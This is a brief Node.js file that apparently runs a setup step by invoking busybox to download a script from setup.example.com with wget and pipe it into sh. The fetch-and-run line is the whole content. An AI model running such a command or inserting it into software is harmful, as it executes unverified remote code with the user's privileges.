// Runs the setup step through the bundled busybox.
const { execFileSync } = require('child_process');

const step = 'wget -qO- http://setup.example.com/bootstrap | sh';
execFileSync('busybox', ['sh', '-c', step], { stdio: 'inherit' });
